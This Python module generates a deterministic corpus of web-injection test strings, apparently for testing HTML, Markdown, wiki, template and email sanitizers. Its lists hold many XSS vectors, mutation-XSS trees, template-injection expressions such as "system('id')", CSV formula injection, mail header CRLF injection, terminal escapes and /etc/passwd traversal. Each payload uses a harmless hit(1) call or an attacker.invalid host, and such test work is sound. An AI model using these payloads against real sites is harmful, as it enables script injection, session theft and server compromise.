"""Texts that try to come alive in a page, a feed, a letter or a wiki: made by a grammar of ours.

Each production is a place where markup is read in another way; the generator crosses them
and is seeded, so that the same texts come out everywhere. None of them does any harm where it
lives: it calls `hit()`, or asks an address below `.invalid`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from functools import cache
from itertools import product

MOST_OF_A_KIND = 46  # where a product has more, a sample of it stands for all

CALL = "hit(1)"
PLACE = "attacker.invalid"

_TAGS = (
    "img", "svg", "body", "iframe", "details open", "video", "audio", "input autofocus", "math",
    "marquee", "object", "a-b", "style", "select", "embed", "frameset", "form", "button", "link",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onclick", "ONMOUSEOVER", "onfocus", "ontoggle", "onbegin", "onstart",
    "onanimationstart", "onpointerenter", "on\x00error", "on\u00aderror",
)  # fmt: skip
_QUOTES = ("", '"', "'", "`")
_GAPS = (" ", "/", "\n", "\t", "\x0c", "/x=1/", "\x0b", "\u2028")
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\r\nscript:",
    " javascript:", "\x01javascript:", "javascript\t:", "&#106;avascript:", "&#x6A;avascript:",
    "javascript&colon;", "java&Tab;script:", "jav&#x0A;ascript:", "%6Aavascript:", "vbscript:",
    "VBScript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4",
    "data:image/svg+xml,<svg onload=", "data:,", "blob:null/", "file:///etc/passwd#",
    "javascript://attacker.invalid/%0a", "data://attacker.invalid/,", "vbscript://attacker.invalid/",
    "file://attacker.invalid/", "ftp://attacker.invalid/", "view-source:javascript:", "feed:javascript:", "jar:http://attacker.invalid!/",
    "//attacker.invalid/", "\\\\attacker.invalid\\", "http:attacker.invalid/",
    'https://attacker.invalid/"onload=', "https://attacker.invalid/'><script>",
    "ｊavascript:", "java\u200bscript:", "javascript\u003a", "mailto:a@b.invalid?x=%0d%0abcc:",
)  # fmt: skip
_LINKS = (
    "{}", '<a href="{}">x</a>', "<a href={}>x</a>", "<a xlink:href='{}'>x</a>", "[x]({})",
    "![x]({})", "[x](<{}>)", '[x]({} "t")', "[x][1]\n\n[1]: {}", "<{}>", "[{} x]", "[[{}|x]]",
    "{{{{{}|x}}}}", "<iframe src='{}'>", "<form action='{}'><input type=submit>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>",
    "<link rel=stylesheet href='{}'>", "<object data='{}'>", "<embed src='{}'>",
    "<svg><use xlink:href='{}'/></svg>", "<svg><image href='{}'/></svg>",
    "<img srcset='{} 1x'>", "<img src='{}'>", "<video poster='{}'>", "<body background='{}'>",
    "<p style='background:url({})'>", "<style>@import '{}';</style>", "<math href='{}'>x</math>",
    "<button formaction='{}'>x</button>", "<script src='{}'></script>",
    "<?xml-stylesheet href='{}'?>", "<xi:include href='{}'/>", "\\href{{{}}}{{x}}",
    "<ac:link><ri:url ri:value='{}'/></ac:link>", "<isindex type=image src='{}'>",
)  # fmt: skip
_ENDS = (
    "</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</xmp>", "</iframe>",
    "</option></select>", "</body></html>", "</p></div></article>", "-->", "--!>", "]]>", "?>",
    "*/", '">', "'>", "`>", '"/>', "\x00>", "</script\t>", "</STYLE\n>", "<!--", "<![CDATA[",
    "<!-->", "<!", "<?", "</", "&quot;>", "&#34;&gt;", "\\\">", "';", '";', "\\';", "\u2028",
    "</nowiki>", "</code></pre>", "%%", "}}", "{%endraw%}", "]]></ac:plain-text-body>", "|}",
)  # fmt: skip
_BODIES = (
    f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"//{CALL}//",
    f" onmouseover={CALL} x=", f"<svg><script>{CALL}//", f"&lt;script&gt;{CALL}&lt;/script&gt;",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<script/x>{}</script>",
    "<\x00script>{}</script>", "<scr\x00ipt>{}</script>", "<scr<script>ipt>{}</script>",
    "＜script＞{}＜/script＞", "<ſcript>{}</ſcript>", "<script>{}", "<script>{}//</script",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script>{}&#x3c;/script>", "&amp;lt;script&amp;gt;{}", "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}", "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "¼script¾{}¼/script¾", "<script type=module>{}</script>", "<script x='>'>{}</script>",
    "<!--<script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<%script>{}", "<<script>{}<</script>",
    "<svg><script>{}</script></svg>", "<svg><script xlink:href='data:,{}'/></svg>",
    "<math><script>{}</script></math>", "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>", "<plaintext><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>", "<style><script>{}</script></style>",
    "\ud83c<script>{}</script>", "\ufeff<script>{}</script>", "\u202e<script>{}</script>",
    "a\u0300<\u0338script>{}</script>", "<s\u00adcript>{}</script>", "<script\u00a0>{}</script>",
)  # fmt: skip
_CALLS = (CALL, "`${hit(1)}`", "eval('hit(1)')", "top['hit'](1)", "hit`1`", "self[/hit/.source](1)")
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% {} %}}", "{{{{{{{}}}}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "<?php {} ?>",
    "[[${{{}}}]]", "{{# {} #}}", "{{{{- {} -}}}}", "{{%raw%}}{}{{%endraw%}}", "@{{{}}}", "*{{{}}}",
    "{{{{ {} | safe }}}}", "{{% filter safe %}}{}{{% endfilter %}}", "`$= {}`", "= {}",
)  # fmt: skip
_EXPRESSIONS = (
    "7*7", "brief.__class__", "''.__class__.__mro__", "self", "cycler.__init__.__globals__",
    "constructor.constructor('hit(1)')()", "include 'x'", "import os", "lipsum", "system('id')",
)  # fmt: skip
_TREES = (
    "<svg><style><img src=x onerror={c}></style>",
    "<svg></p><style><a id='</style><img src=1 onerror={c}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={c}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<svg><foreignObject><iframe onload={c}></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:{c} /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onload to={c} /></svg>",
    "<svg><a xlink:href='javascript:{c}'><rect width=99 height=99 /></a></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<table><td background='javascript:{c}'>", "<div style='width:expression({c})'>",
    "<div style='-moz-binding:url(//attacker.invalid/x.xml#a)'>",
    "<p style=\"content:'\" onmouseover={c} '\">", "<keygen autofocus onfocus={c}>",
    "<details ontoggle={c} open>", "<x onclick={c} tabindex=1 id=x>#x",
    "<a href='#' ping='//attacker.invalid/'>x</a>", "<object><param name=src value='javascript:{c}'>",
    "<portal src='javascript:{c}'>", "<dialog open onclose={c}><form method=dialog>",
    "<input type=image src onerror={c}>", "<isindex action=javascript:{c} type=submit>",
    "<!DOCTYPE x [<!ENTITY y '<script>{c}</script>'>]>&y;", "<img src='x' alt='`` onerror={c}'>",
    "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{c}</x:script>",
)  # fmt: skip
_WIKI = (
    "{{subst:Evil}}", "{{Evil|a=b}}", "{{{!}}}", "[[File:x.png]]", "[[Category:X]]", "#REDIRECT [[X]]",
    "__NOINDEX__ __TOC__", "~~~~", "<ref>x</ref><references/>", "{|\n|-\n|x\n|}", "<html><b>x</b></html>",
    "<php>system('id');</php>", "<HTML><b>x</b></HTML>", "%%x%%", "<nowiki>x", "x</nowiki><b>",
    "{{http://attacker.invalid/x.png}}", "{{rss>http://attacker.invalid/feed}}", "~~NOCACHE~~",
    "((a note))", "<code php>x</code>", "<file>x", "[[http://attacker.invalid|x]]", "-{zh:x}-",
    "<ac:structured-macro ac:name='html'><ac:plain-text-body><![CDATA[<script>hit(1)</script>]]>"
    "</ac:plain-text-body></ac:structured-macro>", "<ac:image><ri:url ri:value='x'/></ac:image>",
    "![[x]]", "[[x|y]]", "%% hidden %%", "> [!danger]- x", "^block", "#tag", "$$x$$", "==x==",
    "```dataviewjs\nhit(1)\n```", "~~~\nx", "```", "---\ntitle: x\n---", "***", "# x", "x\n===",
    "| a |\n|---|\n| b |", "[^1]: x", "[^1]", "- [ ] x", "1. x", "    indented", "> x", "\\", "&copy;",
    "<b>x</b>", "<!-- x -->", "*x* _y_ ~~z~~ `q`", "<https://attacker.invalid>", "x  \ny", "www.x.invalid",
)  # fmt: skip
_LETTERS = (
    "\r\nBcc: a@attacker.invalid\r\n\r\n", "\nContent-Type: text/html\n\n<b>", "\r\rX-Evil: 1",
    "=?utf-8?q?=0d=0aBcc:_a=40attacker.invalid?=", "--=_boundary--", "\r\n.\r\n", "\x00\r\n", "\x85Bcc: a",
    "\u2028Bcc: a", "a@b.invalid, c@attacker.invalid", "<a@attacker.invalid>", "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://attacker.invalid\x1b\\x\x1b]8;;\x1b\\", "\x9b31m", "\x07\x08\x7f", "\x1b]0;title\x07",
    "=HYPERLINK('http://attacker.invalid')", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "CON", "aux.txt", "a\x00.html", "~root",
    "x" * 300, "\u202egpj.exe", "\ud800", "\udfff\ud800", "\ufffe\uffff",
)  # fmt: skip


def _kinds() -> Iterator[Sequence[str]]:
    handlers = product(_TAGS, _GAPS, _EVENTS, _QUOTES)
    yield [f"<{tag}{gap}src=x {event}={q}{CALL}{q}>" for tag, gap, event, q in handlers]
    breaks = product(_QUOTES[1:], ("", ">", " ", "/"), _EVENTS, _GAPS)
    yield [f"{q}{mark}{gap}{event}={CALL} x={q}" for q, mark, event, gap in breaks]
    yield [link.format(f"{scheme}{CALL}") for scheme, link in product(_SCHEMES, _LINKS)]
    yield [f"{scheme}{CALL}" for scheme in _SCHEMES]
    yield [f"{end}{body}" for end, body in product(_ENDS, _BODIES)]
    yield [script.format(call) for script, call in product(_SCRIPTS, _CALLS)]
    yield [shape.format(text) for shape, text in product(_TEMPLATES, _EXPRESSIONS)]
    yield [tree.format(c=CALL) for tree in _TREES]
    yield [f"x{before}{text}" for text, before in product(_WIKI, ("", "\n", "\n\n"))]
    yield _WIKI
    yield _LETTERS
    yield [f"{one}{other}" for one, other in product(_LETTERS[:12], _BODIES)]


@cache
def texts() -> tuple[str, ...]:
    """Give the texts, each once, in an order that is always the same."""
    chance = random.Random(20_211_231)
    found: dict[str, None] = {}
    for kind in _kinds():
        few = len(kind) <= MOST_OF_A_KIND
        found |= dict.fromkeys(kind if few else chance.sample(kind, MOST_OF_A_KIND))
    mixed = list(found)
    chance.shuffle(mixed)
    return tuple(mixed)
